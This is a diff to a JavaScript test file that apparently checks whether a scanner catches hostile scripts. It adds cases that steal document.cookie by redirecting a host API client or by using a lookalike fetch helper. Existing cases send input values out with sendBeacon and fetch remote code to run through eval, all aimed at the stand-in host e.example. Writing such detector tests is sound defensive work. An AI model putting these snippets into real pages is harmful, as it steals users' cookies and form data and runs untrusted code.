@@ -42,6 +42,14 @@ describe('the checks hold a script', () => {
       'that sends what the user enters',
       'document.querySelectorAll("input").forEach((i) => { navigator.sendBeacon("https://e.example", i.value); });',
     ],
+    [
+      'that changes the address of the host’s client',
+      'import { api } from "../scripts/api.js"; api.api_base = "//e.example"; api.fetchApi("/a", { body: document.cookie });',
+    ],
+    [
+      'that sends with its own function of the name of the host’s',
+      'const fetchApi = (u, o) => fetch(u, o); fetchApi("https://e.example", { body: document.cookie });',
+    ],
     ['that calls eval indirectly', 'fetch("https://e.example/p").then((r) => r.text()).then((t) => (0, eval)(t));'],
     ['that passes eval on', 'fetch("https://e.example/p").then((r) => r.text()).then(eval);'],
     ['that gives eval another name', 'const e = eval; fetch("https://e.example/p").then((r) => r.text()).then(e);'],
